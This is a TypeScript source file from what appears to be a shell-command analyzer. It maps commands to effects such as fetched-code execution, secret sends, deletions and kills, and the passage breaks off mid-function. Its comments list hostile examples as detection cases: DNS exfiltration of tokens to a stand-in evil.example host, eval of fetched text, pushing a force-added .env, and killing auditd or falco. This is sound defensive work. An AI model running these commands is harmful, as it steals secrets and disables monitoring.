/**
 * One command's effects from the command-knowledge table: each rule of the program's
 * entry that applies adds its effect. Programs missing from the table that are handed a
 * command line state an `unknown` effect; a command whose name is hidden states one too.
 */
import path from 'node:path';
import type { ExecEffect } from '../../effects.js';
import type { BashCommand, PathFact, UrlFact } from '../../facts.js';
import { SHELLS, isDecoder } from '../commands.js';
import { sedRunsData } from '../carriers.js';
import { interpreterCall } from '../inline-code.js';
import { editorRunsCode } from '../script-files.js';
import { applies, assignedValues, optionValues, parseArgs, selectOperands, subDepth, type ParsedArgs } from '../knowledge/args.js';
import { isKnownProgram, knowledgeOf } from '../knowledge/index.js';
import type { ProgramKnowledge, Rule } from '../knowledge/types.js';
import { type EffectContext, pathOf, upstreamOf } from './context.js';
import { sourcesOf } from './sources.js';
import { parseUrl } from '../../urls/index.js';
import { printsRemoteContent } from '../knowledge/remote.js';
import { FILTERS } from '../knowledge/text.js';
import { isWrapper } from '../wrappers.js';

/**
 * awk programs that run their input as command lines: `system($0)`, `system(x)` of a field or
 * variable, printing into a shell (`print | "sh"`).
 */
const AWK_RUNS_INPUT = /system\s*\(\s*(?!["')])|\|\s*"\s*(?:\/\S*\/)?(?:ba|da|z|k)?sh\b/;
const AWKS = new Set(['awk', 'gawk', 'mawk', 'nawk', 'busybox awk']);

/** Names a program can be given to mean "read the program from stdin". */
const STDIN_NAMES = new Set(['-', '/dev/stdin', '/dev/fd/0', '/proc/self/fd/0']);

/** A word names stdin in any spelling of the path (`/./dev/stdin`, `//dev//stdin`, `/dev/../dev/stdin`). */
function namesStdin(word: string): boolean {
  if (STDIN_NAMES.has(word)) return true;
  return word.startsWith('/') && STDIN_NAMES.has(path.posix.normalize(word.replace(/\/{2,}/g, '/')));
}

/** A glob that matches at every depth under its folder. */
const SPANS_TREE = /(?:^|\/)\*\*(?:\/|$)/;

/** Words that cannot be a file operand (stdin, empty). */
const NOT_A_FILE = new Set(['', '-']);

export function commandEffects(c: BashCommand, ec: EffectContext): void {
  const base = { producer: 'bash', command: c.id };
  if (c.dynamic_name) {
    ec.out.push({ ...base, type: 'unknown', reason: 'dynamic_program' });
    substitutedCode(c, ec);
    return;
  }
  if ((SHELLS.has(c.name) && c.flags.includes('c')) || c.name === 'eval' || c.name === 'source' || c.name === '.') substitutedCode(c, ec);
  if (c.name === '') return;
  ec.out.push(execOf(c, ec));
  // Files the program's own script reads or writes, named by no operand (script-files.ts).
  for (const f of c.script_files ?? []) {
    if (f.access === 'read') ec.out.push({ ...base, type: 'read', path: f.path });
    else ec.out.push({ ...base, type: 'write', path: f.path, mode: f.access === 'append' ? 'append' : 'create', content: null });
  }
  if (runsInputAsCode(c, ec)) ec.out.push({ ...base, type: 'unknown', reason: `input_as_code:${c.via}` });
  if (editorRunsCode(c.name, c.argv)) ec.out.push({ ...base, type: 'unknown', reason: 'editor_code' });
  const entry = knowledgeOf(c.name);
  if (entry === undefined) {
    // A wrapper's command is stated as a command of its own (wrappers.ts), judged there.
    if (isWrapper(c.name)) return;
    if (!c.name.includes('=') && runsGivenCommandLine(c, ec)) ec.out.push({ ...base, type: 'unknown', reason: 'unknown_program_runs_command' });
    const verb = destroyingSubcommand(c);
    if (verb !== null) ec.out.push({ ...base, type: 'unknown', reason: `unknown_program_destroys:${verb}` });
    return;
  }
  // Operands a listing stands for (xargs fed by `ls`, `find`, `git ls-files`…): read as the command's own.
  const parsed = parseArgs(c.name, c.listed !== undefined ? [...c.args, ...c.listed] : c.args, entry);
  const producer = `knowledge:${c.name}`;
  for (const rule of entry.rules) {
    if (!applies(rule.when, parsed)) continue;
    applyRule(rule, c, parsed, entry, ec, { producer, command: c.id });
  }
  if ((c.name === 'sed' || c.name === 'gsed') && sedRunsData(c.argv)) ec.out.push({ producer, command: c.id, type: 'unknown', reason: 'runs_data_as_command:sed' });
  // awk that runs the lines it reads runs what feeds it: fetched code when a fetcher does.
  if (AWKS.has(c.name) && c.inline_code !== null && AWK_RUNS_INPUT.test(c.inline_code.code)) {
    const fed = fedBy(upstreamOf(c.id, ec), ec);
    if (fed !== null) ec.out.push({ producer, command: c.id, type: 'exec', program: 'sh', argv: ['sh', '-c'], language: 'bash', code: null, origin: fed, script: null });
  }
}

/** Placeholders xargs and parallel replace with an input item. */
const PLACEHOLDERS = new Set(['{}', '{.}', '{/}', '{//}', '{/.}', '{#}', '{%}']);

/**
 * A shell or interpreter that xargs or parallel hands its input lines as the code itself
 * (`cat tasks.txt | xargs -L1 sh -c`, `xargs -I{} bash -c '{}'`), or parallel given no command
 * (each input line is one): the command lines run are whatever the input holds, unknown here.
 * Input that is only data inside a fixed script (`xargs -I{} sh -c 'mv {} {}.bak'`) is not this.
 */
function runsInputAsCode(c: BashCommand, ec: EffectContext): boolean {
  if (c.name === 'parallel' && !c.args.some((a) => a === ':::' || a === '::::')) {
    const scan = parseArgs('parallel', c.args, knowledgeOf('parallel'));
    if (scan.operands.length === 0 && !ec.facts.commands.some((x) => x.parent === c.id && x.via === 'parallel')) return true;
  }
  if (c.via !== 'xargs' && c.via !== 'parallel') return false;
  if (languageOf(c.name) === null) return false;
  const codeFlag = c.flags.some((f) => f === 'c' || f === 'e' || f === 'E' || f === 'r' || f === '--eval' || f === '--command');
  if (!codeFlag) return false;
  // Shells' -c lines are walked as nested commands (no inline_code): the word after the flag.
  const flagAt = c.argv.findIndex((a, i) => i > 0 && /^-[A-Za-z]*[ceEr]$|^--(?:eval|command)$/.test(a));
  const code = (c.inline_code?.code ?? (flagAt > 0 ? c.argv[flagAt + 1] : undefined) ?? '').trim();
  const parent = c.parent !== null ? ec.facts.commands[c.parent] : undefined;
  const replace = parent !== undefined ? parseArgs(parent.name, parent.args, { options: { short: 'IiEdsLnP', long: ['replace', 'delimiter', 'max-args', 'max-lines', 'max-procs', 'eof', 'arg-file'] }, rules: [] }).values : new Map<string, string[]>();
  const replstr = replace.get('I')?.[0] ?? replace.get('i')?.[0] ?? replace.get('--replace')?.[0];
  return code === '' || PLACEHOLDERS.has(code) || (replstr !== undefined && code === replstr);
}

/**
 * A command line made by a command substitution (`eval "$(gh issue view 42)"`, `bash -c
 * "$(aws s3 cp s3://b/x -)"`, `$(curl …)` as the command word) runs what the substitution
 * printed: fetched code when a remote printer produced it, decoded code when a decoder did.
 */
function substitutedCode(c: BashCommand, ec: EffectContext): void {
  const inner = [...ec.facts.commands.filter((x) => x.via === 'command_substitution' && x.parent === c.id).map((x) => x.id), ...throughVariables(c, ec)];
  if (inner.length === 0) return;
  const fed = fedBy([...inner, ...inner.flatMap((id) => upstreamOf(id, ec))], ec);
  if (fed !== null) ec.out.push({ producer: 'bash', command: c.id, type: 'exec', program: c.dynamic_name ? '' : c.name, argv: c.argv, language: 'bash', code: null, origin: fed, script: null });
}

/**
 * The substitutions whose output a variable in `c`'s words holds (`S=$(curl …); eval "$S"`):
 * the commands run while the last earlier assignment of that name was made. Also asked of the
 * command eval runs, whose words are the variable's (it names eval as its parent).
 */
function throughVariables(c: BashCommand, ec: EffectContext): number[] {
  const words = c.parent !== null && c.via === 'eval' ? [...c.argv, ...(ec.facts.commands[c.parent]?.argv ?? [])] : c.argv;
  const names = new Set<string>();
  for (const w of words) for (const m of w.matchAll(/\$\{?([A-Za-z_]\w*)/g)) names.add(m[1]!);
  if (names.size === 0) return [];
  const ids: number[] = [];
  for (const name of names) {
    // The parse tree names the substitutions whose output a plain assignment stored (`S=$(…)`, `S=$(…) cmd`):
    // the last such assignment before `c` is the value `c` reads.
    const tree = new Set(ec.facts.commands.filter((x) => x.id < c.id && x.assigns === name).map((x) => x.id));
    if (tree.size > 0) {
      // One assignment's substitutions have consecutive ids; an earlier assignment of the name is overwritten.
      let id = Math.max(...tree);
      while (tree.has(id)) ids.push(id, ...upstreamOf(id--, ec));
      continue;
    }
    // Declarations (`export S="$(…)"`, `local`, `declare`): the substitutions run between the assignment and the next command.
    const assigned = ec.facts.commands.filter((a) => a.id < c.id && a.assignments !== null && typeof a.assignments?.[name] === 'string' && /\$\(|`/.test(a.assignments[name]!)).pop();
    if (assigned === undefined) continue;
    const next = ec.facts.commands.find((x) => x.id > assigned.id && x.via !== 'command_substitution' && x.parent === null)?.id ?? c.id;
    for (const x of ec.facts.commands) if (x.id > assigned.id && x.id < next && x.via === 'command_substitution') ids.push(x.id, ...upstreamOf(x.id, ec));
  }
  return ids;
}

/** "network" when a remote printer feeds one of the commands, "decoded" when a decoder does, else null. */
export function fedBy(ids: readonly number[], ec: EffectContext): 'network' | 'decoded' | null {
  for (const id of ids) {
    const up = ec.facts.commands[id];
    if (up !== undefined && printsRemoteContent(up)) return 'network';
  }
  for (const id of ids) {
    const up = ec.facts.commands[id];
    if (up !== undefined && isDecoder(up.name, up.args)) return 'decoded';
  }
  return null;
}

/** The program run, with where its code came from when it runs code. */
function execOf(c: BashCommand, ec: EffectContext): ExecEffect {
  const code = c.inline_code;
  const origin = originOf(c, ec);
  return {
    producer: 'bash',
    command: c.id,
    type: 'exec',
    program: c.name,
    argv: c.argv,
    language: code?.language ?? languageOf(c.name),
    code: code?.code ?? null,
    origin,
    script: scriptOf(c, ec),
  };
}

/** network / decoded when a fetcher or decoder feeds it; the kind of input otherwise. */
function originOf(c: BashCommand, ec: EffectContext): string {
  // Code given on the command line (`python -c …`, `bash -c …`): stdin is data, not the program.
  if (c.inline_code !== null && c.inline_code.code !== '' && c.argv.some((a) => a === c.inline_code?.code || a.endsWith(c.inline_code?.code ?? '\0'))) return argvOrigin(c);
  // A command xargs or parallel builds from the lines it reads runs what feeds xargs.
  if ((c.via === 'xargs' || c.via === 'parallel') && c.parent !== null) {
    const fed = fedBy(upstreamOf(c.parent, ec), ec);
    if (fed !== null) return fed;
  }
  if (SHELLS.has(c.name) && c.flags.includes('c')) return argvOrigin(c);
  if (c.operands.length > 0 && c.operands[0].startsWith('<(')) return 'process_substitution';
  // A runtime given a URL as its program (`deno run -A https://…/mod.ts`, `bun https://…`) fetches and runs it.
  const program = c.operands[0] === 'run' ? c.operands[1] : c.operands[0];
  if (languageOf(c.name) !== null && program !== undefined && /^https?:\/\//i.test(program)) return 'network';
  // A module or a script file named on the command line (`python3 -m json.tool`, `bash x.sh`): stdin is its data.
  // (The interpreter's own option table knows which words are option values: `pwsh
  // -ExecutionPolicy Bypass -Command -` names no file, it reads its program from stdin.)
  if (languageOf(c.name) !== null && (c.flags.includes('m') || (c.operands.length > 0 && !namesStdin(c.operands[0]))) && interpreterCall(c.name, c.argv)?.readsStdin !== true) return argvOrigin(c);
  const ups = upstreamOf(c.id, ec);
  const fed = fedBy(ups, ec);
  if (fed !== null) return fed;
  if (ups.length > 0) return 'stdin';
  if (c.redirects.some((r) => r.op === '<<' || r.op === '<<-')) return 'heredoc';
  if (c.redirects.some((r) => r.op === '<<<')) return 'here_string';
  if (c.via !== 'script') return c.via;
  return 'argv';
}

/** The language a program speaks per the table's `code` rule (sh → bash, python3 → python), null for plain programs. */
function languageOf(name: string): string | null {
  const rule = knowledgeOf(name)?.rules.find((r) => r.effect === 'code');
  return rule !== undefined && rule.effect === 'code' ? rule.language : null;
}

function argvOrigin(c: BashCommand): string {
  return c.via !== 'script' ? c.via : 'argv';
}

/** The script file a shell, `source` or an interpreter runs, resolved. */
function scriptOf(c: BashCommand, ec: EffectContext): PathFact | null {
  if (!(SHELLS.has(c.name) || c.name === 'source' || c.name === '.' || c.inline_code !== null)) return c.path !== null ? pathOf(c, c.argv[0], ec) : null;
  if (c.inline_code !== null && c.inline_code.code !== '') return null;
  const first = c.operands[0];
  if (first === undefined || NOT_A_FILE.has(first) || c.flags.includes('c')) return null;
  return pathOf(c, first, ec);
}

function applyRule(rule: Rule, c: BashCommand, parsed: ParsedArgs, entry: ProgramKnowledge, ec: EffectContext, base: { producer: string; command: number }): void {
  const files = (words: string[]): PathFact[] => words.filter((w) => !NOT_A_FILE.has(w) && !w.startsWith('<(')).map((w) => pathOf(c, w, ec));
  switch (rule.effect) {
    case 'delete': {
      const recursive = rule.recursive === true || (rule.recursive_flags ?? []).some((f) => parsed.flags.has(f));
      const folder = optionValues(parsed, rule.relative_to).pop();
      let selected = selectOperands(rule, parsed);
      if (selected.length === 0 && rule.default_operand !== undefined) selected = [rule.default_operand];
      if (folder !== undefined) selected = selected.map((w) => (w.startsWith('/') || w.startsWith('~') || w.startsWith('$') ? w : w === '.' ? folder : `${folder.replace(/\/+$/, '')}/${w}`));
      let targets = [...selected, ...optionValues(parsed, rule.options), ...(rule.fixed ?? [])];
      const filter = (rule.filtered_by ?? []).find((f) => parsed.flags.has(f));
      if (filter !== undefined) {
        const pattern = parsed.values.get('name')?.[0] ?? parsed.values.get('iname')?.[0] ?? '*';
        targets = (targets.length > 0 ? targets : ['.']).map((t) => `${t.replace(/\/+$/, '')}/${pattern.includes('/') ? '*' : pattern}`);
      }
      // A `**` glob (globstar, or a listing that walks the tree: knowledge/listings.ts) spans the tree.
      for (const path of files(targets)) ec.out.push({ ...base, type: 'delete', path, recursive: recursive || SPANS_TREE.test(path.raw) });
      return;
    }
    case 'write':
      for (const path of files([...selectOperands(rule, parsed), ...optionValues(parsed, rule.options), ...assignedValues(parsed, rule.assign)])) {
        ec.out.push({ ...base, type: 'write', path, mode: rule.mode, content: null });
      }
      return;
    case 'read': {
      // Operands relative to a folder option (`tar -C ~ .gnupg`) are read there.
      const folder = optionValues(parsed, rule.relative_to).pop();
      const operands = selectOperands(rule, parsed).map((w) => (folder !== undefined && !w.startsWith('/') && !w.startsWith('~') && !w.startsWith('$') ? `${folder.replace(/\/+$/, '')}/${w}` : w));
      for (const path of files([...operands, ...optionValues(parsed, rule.options), ...assignedValues(parsed, rule.assign)])) {
        ec.out.push({ ...base, type: 'read', path });
      }
      return;
    }
    case 'chmod': {
      const [mode, ...targets] = parsed.operands;
      if (mode === undefined) return;
      // find's `{}` is every file under its roots at every depth (`find . -exec chmod 777 {} +` is
      // `chmod -R 777 .`) unless -maxdepth keeps it to the roots' entries.
      const recursive = (rule.recursive_flags ?? []).some((f) => parsed.flags.has(f)) || walksTree(c, ec);
      const owner = rule.owner === true;
      const setuid = !owner && /(?:^|[,ugoa]*)\+[rwxXt]*s|^[0-7]?[2467][0-7]{3}$/.test(mode);
      const worldWritable = !owner && (/^[0-7]*[2367]$/.test(mode) && /^[0-7]{3,4}$/.test(mode) || /(?:^|,)[ugo]*[ao][ugo]*[+=][rxXst]*w|(?:^|,)\+[rxXst]*w/.test(mode));
      for (const path of files(targets)) ec.out.push({ ...base, type: 'chmod', path, mode, recursive, setuid, world_writable: worldWritable, owner });
      return;
    }
    case 'link': {
      const symbolic = rule.symbolic === true || (rule.symbolic_flags ?? []).some((f) => parsed.flags.has(f));
      const ops = parsed.operands;
      if (ops.length === 0) return;
      const name = ops.length === 1 ? ops[0].replace(/\/+$/, '').split('/').pop() ?? ops[0] : ops[ops.length - 1];
      const targets = ops.length === 1 ? ops : ops.slice(0, -1);
      for (const target of targets) ec.out.push({ ...base, type: 'link', from: pathOf(c, name, ec), to: pathOf(c, target, ec), symbolic });
      return;
    }
    case 'connect':
      connect(rule, c, parsed, ec, base);
      return;
    case 'send':
      send(rule, c, parsed, ec, base);
      return;
    case 'kill': {
      // kill's own reading of `-9 -1` (signal first, then negative targets) is the walk's (commands.ts).
      const own = c.name === 'kill' ? { ...parsed, flags: new Set(c.flags), operands: c.operands } : parsed;
      const signal = signalOf(own, rule.signal_options);
      const targets = rule.target === 'pids' ? own.operands.map(pidTarget) : own.operands.map((n) => `name:${n}`);
      if (targets.length === 0) {
        const user = parsed.values.get('u')?.[0] ?? parsed.values.get('--user')?.[0] ?? parsed.values.get('U')?.[0];
        targets.push(user !== undefined ? `user:${user}` : rule.target === 'names' && c.name.startsWith('killall') ? 'all' : 'none');
      }
      // Pids a process finder printed (`pgrep auditd | xargs kill`, `kill $(pidof falco)`) are the processes it named.
      if (rule.target === 'pids') for (const name of foundProcesses(c, ec)) if (!targets.includes(`name:${name}`)) targets.push(`name:${name}`);
      for (const target of targets) ec.out.push({ ...base, type: 'kill', target, signal });
      return;
    }
    case 'install': {
      const packages = parsed.operands.slice(subDepth(rule.when)).filter((p) => !p.includes('=') || /^[\w.-]+==/.test(p));
      const source = optionValues(parsed, rule.source_options)[0] ?? null;
      ec.out.push({ ...base, type: 'install', manager: rule.manager, packages, source });
      return;
    }
    case 'config': {
      const after = parsed.operands.slice(1);
      if (rule.option_pairs === true) {
        // `Set-MpPreference -DisableRealtimeMonitoring $true`: a parameter and the word after it (none: a switch, "true").
        c.args.forEach((word, i) => {
          if (!/^-[A-Za-z]/.test(word)) return;
          const [name, inline] = word.slice(1).split(/:(.*)/s);
          const next = c.args[i + 1];
          const value = inline !== undefined ? inline : next !== undefined && !/^-[A-Za-z]/.test(next) ? next : 'true';
          ec.out.push({ ...base, type: 'config', tool: rule.tool, key: name.toLowerCase(), value });
        });
        return;
      }
      if (rule.assignments === true) {
        for (const operand of after.slice(rule.key_at ?? 0)) {
          const eq = operand.indexOf('=');
          if (eq > 0) ec.out.push({ ...base, type: 'config', tool: rule.tool, key: operand.slice(0, eq), value: operand.slice(eq + 1) });
        }
        return;
      }
      const key = rule.key ?? after[rule.key_at ?? 0] ?? '';
      const value = after[rule.value_at ?? 1] ?? null;
      if (key !== '') ec.out.push({ ...base, type: 'config', tool: rule.tool, key, value });
      if (key !== '' && rule.tool === 'git') storedCredentialSends(c, key, value, ec, base);
      return;
    }
    case 'file_commands': {
      const named = optionValues(parsed, rule.file_options);
      const folder = optionValues(parsed, rule.dir_options).pop();
      const defaults = rule.files.slice(0, 1).map((f) => (folder !== undefined ? `${folder.replace(/\/+$/, '')}/${f}` : f));
      const scripts = named.length > 0 ? named : defaults;
      for (const file of scripts) {
        ec.out.push({ ...base, type: 'exec', program: c.name, argv: c.argv, language: rule.language ?? 'bash', code: null, origin: file.startsWith('<(') ? 'process_substitution' : 'file', script: file.startsWith('<(') ? null : pathOf(c, file, ec) });
      }
      return;
    }
    case 'reveal':
      if (ec.out.some((e) => e.type === 'reveal' && e.command === c.id)) return;
      ec.out.push({ ...base, type: 'reveal', secret: rule.secret, to: revealedTo(c, ec) });
      return;
    case 'command_line':
      // The command lines were walked as nested commands (carriers.ts); each states its own effects.
      return;
    case 'code':
      return;
  }
  void entry;
}

/** A command find runs for the files it finds at any depth. */
function walksTree(c: BashCommand, ec: EffectContext): boolean {
  if (!c.via.startsWith('find') || c.parent === null) return false;
  const find = ec.facts.commands[c.parent];
  if (find === undefined) return false;
  const depth = find.args.indexOf('-maxdepth');
  return !(depth !== -1 && /^[01]$/.test(find.args[depth + 1] ?? ''));
}

/** Programs that print the pids of the processes their operands name. */
const PROCESS_FINDERS = new Set(['pgrep', 'pidof']);
const PGREP_OPTIONS = { options: { short: 'dgGnoPstuUF', long: ['delimiter', 'group', 'parent', 'session', 'terminal', 'euid', 'uid', 'pidfile', 'ns', 'nslist'] }, options_anywhere: true, rules: [] };

/** The process names whose pids reach `c` from a finder: through xargs' input or a command substitution in its words. */
function foundProcesses(c: BashCommand, ec: EffectContext): string[] {
  // Under a wrapper (`builtin kill $(pidof x)`, `command kill …`) the words, and their
  // substitutions, belong to the wrapper's command.
  const owners = new Set([c.id]);
  for (let w = c.parent !== null ? ec.facts.commands[c.parent] : undefined; w !== undefined && c.wrappers.includes(w.name); w = w.parent !== null ? ec.facts.commands[w.parent] : undefined) owners.add(w.id);
  const feeders = [
    ...(c.via === 'xargs' && c.parent !== null ? upstreamOf(c.parent, ec) : []),
    ...ec.facts.commands.filter((x) => x.parent !== null && owners.has(x.parent) && x.via === 'command_substitution').flatMap((x) => [x.id, ...upstreamOf(x.id, ec)]),
  ];
  const names: string[] = [];
  for (const id of feeders) {
    const f = ec.facts.commands[id];
    if (f === undefined || !PROCESS_FINDERS.has(f.name)) continue;
    names.push(...parseArgs(f.name, f.args, PGREP_OPTIONS).operands);
  }
  return names;
}

/** git settings that hold a URL git connects to later (`remote.<name>.url`, `url.<base>.insteadOf`'s base). */
const STORED_URL_KEY = /^(?:remote\.url|remote\..+\.(?:push)?url|url\.(.+)\.(?:push)?insteadof)$/i;
const CREDENTIAL_HELPER_KEY = /^credential(?:\..+)?\.helper$/i;

/**
 * A secret stored into a git setting that hands it out later: a remote URL or an insteadOf base
 * with the token in its user part (`git remote set-url origin https://$(gh auth token)@host/…`)
 * is sent to that host at every fetch and push; a credential helper whose command prints a
 * credential variable (`credential.helper '!echo password=$T'`) gives it to whatever remote git
 * talks to. Both are sends of the command's sources, judged as any other send.
 */
function storedCredentialSends(c: BashCommand, key: string, value: string | null, ec: EffectContext, base: { producer: string; command: number }): void {
  const stored = STORED_URL_KEY.exec(key);
  if (stored !== null) {
    const raw = stored[1] ?? value ?? '';
    const url = parseUrl(raw);
    if (url !== null && url.has_credentials) ec.out.push({ ...base, type: 'send', sink: raw, url, sources: sourcesOf(c, ec, []) });
  }
  if (CREDENTIAL_HELPER_KEY.test(key) && value !== null && value.startsWith('!')) {
    // The helper runs later, in git's environment: the variables its line expands are what it prints.
    const expanded = [...value.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => `env:${m[1]}`);
    const printed = ec.out.filter((e) => e.type === 'reveal' && e.command === c.id).map((e) => (e.type === 'reveal' ? `reveal:${e.secret}` : ''));
    const sources = [...new Set([...sourcesOf(c, ec, []), ...expanded, ...printed])].sort();
    if (sources.length > 0) ec.out.push({ ...base, type: 'send', sink: 'git credential helper', url: null, sources });
  }
}

function connect(rule: Extract<Rule, { effect: 'connect' }>, c: BashCommand, parsed: ParsedArgs, ec: EffectContext, base: { producer: string; command: number }): void {
  const listen = (rule.listen_flags ?? []).some((f) => parsed.flags.has(f));
  const shell = (rule.shell_options ?? []).some((f) => parsed.flags.has(f));
  const method = httpMethod(rule, parsed);
  const push = (host: string, port: number | null, url: UrlFact | null): void => {
    ec.out.push({ ...base, type: 'connect', host, port, url, listen, shell, ...(method !== null ? { method } : {}) });
  };
  if (rule.peer === 'urls') {
    for (const u of c.urls) push(u.host, u.port, u);
    if (c.name === 'socat') for (const a of parsed.operands) socatAddress(a, push);
    return;
  }
  if (rule.peer === 'host_port') {
    // dig's `+short` and `@resolver` are not the name looked up.
    const words = parsed.operands.slice(subDepth(rule.when)).filter((w) => !w.startsWith('-') && !w.startsWith('+') && !w.startsWith('@'));
    namedData(c, words, ec, base);
    const host = words.find((w) => !/^\d+$/.test(w)) ?? (listen ? '0.0.0.0' : '');
    const portWord = words.find((w) => /^\d+$/.test(w)) ?? parsed.values.get('p')?.[0];
    if (host !== '' || listen) push(host, portWord !== undefined ? Number(portWord) : null, null);
    return;
  }
  for (const u of c.urls) push(u.host, u.port, u);
  for (const d of destinations(parsed, c)) push(d, null, null);
}

/** HTTP verbs a client may be given as its method. */
const HTTP_METHODS = new Set(['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'PROPPATCH', 'MKCOL', 'COPY', 'MOVE', 'LOCK', 'UNLOCK', 'PURGE']);

/** The method a client was told to use (`-X PUT`, `--request=patch`, `http PATCH url`), upper-cased; null when it is the default. */
function httpMethod(rule: Extract<Rule, { effect: 'connect' }>, parsed: ParsedArgs): string | null {
  const given = optionValues(parsed, rule.method_options).pop();
  if (given !== undefined) return given.toUpperCase();
  if (rule.method_operand === true) {
    const first = parsed.operands[0]?.toUpperCase();
    if (first !== undefined && HTTP_METHODS.has(first)) return first;
  }
  return null;
}

/** A variable or a substitution inside a word (`$(…)`, `${…}`, `$X`, backquotes). */
const DYNAMIC_PART = /\$\((?:[^()]|\([^()]*\))*\)|\$\{[^}]*\}|\$\w+|`[^`]*`/g;

/**
 * Data inside a name a program connects to or looks up (`nslookup $(… $TOKEN …).x.example`,
 * `ping "$KEY.evil.example"`): the name carries it to the name's servers, so it is a send to
 * that domain with the sources that flow into the command.
 */
function namedData(c: BashCommand, words: readonly string[], ec: EffectContext, base: { producer: string; command: number }): void {
  const dynamic = words.filter((w) => /\$[({\w]|`/.test(w));
  if (dynamic.length === 0) return;
  const sources = sourcesOf(c, ec, []);
  if (sources.length === 0) return;
  for (const w of dynamic) {
    const domain = w.replace(DYNAMIC_PART, '').replace(/^[.-]+/, '');
    ec.out.push({ ...base, type: 'send', sink: domain !== '' ? domain : w, url: null, sources });
  }
}

/** socat's `TCP:host:port`, `TCP-LISTEN:port`, `EXEC:`/`SYSTEM:` addresses. */
function socatAddress(a: string, push: (host: string, port: number | null, url: null) => void): void {
  const m = /^(?:tcp|tcp4|tcp6|udp|openssl|ssl)[^:]*:([^:,]+):(\d+)/i.exec(a);
  if (m) push(m[1], Number(m[2]), null);
  const l = /^(?:tcp|udp|openssl)[\w-]*-listen:(\d+)/i.exec(a);
  if (l) push('0.0.0.0', Number(l[1]), null);
}

/** `[user@]host:path`, `user@host`, and for ssh the first operand. */
function destinations(parsed: ParsedArgs, c: BashCommand): string[] {
  const out: string[] = [];
  // git names its remote once, right after the subcommand; the words after it are refspecs
  // (`HEAD:main`, `+refs/heads/x:refs/heads/y`), not hosts.
  const words = c.name === 'git' ? parsed.operands.slice(1, 2) : parsed.operands;
  words.forEach((w, i) => {
    const remote = w.includes('::') ? null : /^(?:[\w.+-]+@)?([A-Za-z0-9.-]+|\[[0-9a-fA-F:.]+\]):(?!\/\/)/.exec(w);
    if (remote && !/^[A-Za-z]:/.test(w) && remote[1].length > 1) out.push(remote[1]);
    else if ((c.name === 'ssh' || c.name === 'autossh' || c.name === 'mosh') && i === 0) out.push(w.replace(/^[^@]*@/, ''));
    else if (/^[\w.+-]+@[A-Za-z0-9.-]+$/.test(w)) out.push(w.replace(/^[^@]*@/, ''));
  });
  return out;
}

function send(rule: Extract<Rule, { effect: 'send' }>, c: BashCommand, parsed: ParsedArgs, ec: EffectContext, base: { producer: string; command: number }): void {
  const sinks: Array<{ sink: string; url: UrlFact | null }> = c.urls.map((u) => ({ sink: u.raw, url: u }));
  if (rule.request_items !== true) for (const d of destinations(parsed, c)) sinks.push({ sink: d, url: null });
  // A mail address or a `host:port` given as an option: its host is where the data goes.
  for (const v of optionValues(parsed, rule.sink_options)) sinks.push({ sink: v.replace(/^[^@]*@/, '').replace(/:\d+$/, ''), url: null });
  if (sinks.length === 0 && c.name !== 'git') {
    const host = parsed.operands.find((w) => !w.startsWith('-') && !/^\d+$/.test(w));
    if (host !== undefined && (c.name === 'nc' || c.name === 'ncat' || c.name === 'netcat' || c.name === 'telnet')) sinks.push({ sink: host, url: null });
  }
  if (sinks.length === 0 && c.name !== 'git') return;
  const files: string[] = [];
  const data = optionValues(parsed, rule.data_options);
  for (const value of data) {
    const upload = /^(?:[^=@<\s]*=)?[@<](.+)$/.exec(value);
    if (upload && upload[1] !== '-') files.push(pathOf(c, upload[1].replace(/;.*$/, ''), ec).path);
  }
  for (const value of optionValues(parsed, rule.file_options)) if (value !== '-' && value !== '' && !value.startsWith('@')) files.push(pathOf(c, value, ec).path);
  if (rule.file_operands) for (const w of parsed.operands.slice(0, -1)) if (!/:/.test(w)) files.push(pathOf(c, w, ec).path);
  // httpie items that send a file: `field@path` (a form upload), `field=@path`, `field:=@path` (its text), `@path` (the body).
  if (rule.request_items === true) {
    for (const w of parsed.operands) {
      const item = /^(?:[^:=@\s]*(?:=|:=)?)@(.+)$/.exec(w);
      if (item !== null && !/^https?:/i.test(w)) files.push(pathOf(c, item[1].replace(/;.*$/, ''), ec).path);
    }
  }
  if (c.name === 'git' && parsed.operands[0] === 'push') {
    const staged = stagedEarlier(c, ec);
    files.push(...staged);
    // A remote named, not spelled (`git push fork main`, plain `git push`): what it stages still leaves.
    if (staged.length > 0 && sinks.length === 0) sinks.push({ sink: `git-remote:${parsed.operands[1] ?? 'origin'}`, url: null });
  }
  const sources = sourcesOf(c, ec, files);
  const sendsSomething = sources.length > 0 || data.length > 0 || rule.stdin === true || rule.file_operands === true || c.name === 'git';
  if (!sendsSomething || sinks.length === 0) return;
  for (const { sink, url } of sinks) ec.out.push({ ...base, type: 'send', sink, url: url ?? null, sources });
}

const GIT_ADD = { options: { short: 'C', long: ['chmod', 'pathspec-from-file'] }, options_anywhere: true, rules: [] };

/**
 * Files a `git add` earlier in the same call staged (`git add -f .env && git commit -m x && git
 * push fork`): the push carries them to the remote, so they are what it sends.
 */
function stagedEarlier(c: BashCommand, ec: EffectContext): string[] {
  const files: string[] = [];
  for (const a of ec.facts.commands) {
    if (a.id >= c.id || a.name !== 'git' || a.operands[0] !== 'add') continue;
    const parsed = parseArgs('git', a.args, GIT_ADD);
    for (const w of parsed.operands.slice(1)) if (w !== '.' && w !== '--' && !w.startsWith('-')) files.push(pathOf(a, w, ec).path);
  }
  return files;
}

/** Options of a login that reads the secret from its stdin (`docker login --password-stdin`). */
const STDIN_LOGIN = /^--(?:password|token|secret)-stdin$/;

/**
 * Where a command's output goes: into a login that reads it from stdin, into another command
 * or a substitution, into a file, or else to the agent's context. A pipe whose every reader
 * only prints (`| jq -r .token`, `| base64`, `| tee`) still ends in the context.
 */
function revealedTo(c: BashCommand, ec: EffectContext): 'context' | 'pipe' | 'file' | 'login' {
  const downstream = ec.facts.commands.filter((d) => d.id !== c.id && upstreamOf(d.id, ec).includes(c.id));
  if (downstream.some((d) => d.args.some((a) => STDIN_LOGIN.test(a)))) return 'login';
  if (c.via === 'command_substitution' || c.via === 'process_substitution') return 'pipe';
  if (downstream.length > 0) {
    const last = downstream[downstream.length - 1];
    if (downstream.every((d) => onlyPrints(d)) && !last.redirects.some(stdoutToFile)) return 'context';
    return 'pipe';
  }
  return c.redirects.some(stdoutToFile) ? 'file' : 'context';
}

function stdoutToFile(r: { write: boolean; fd: number | null; path: PathFact | null }): boolean {
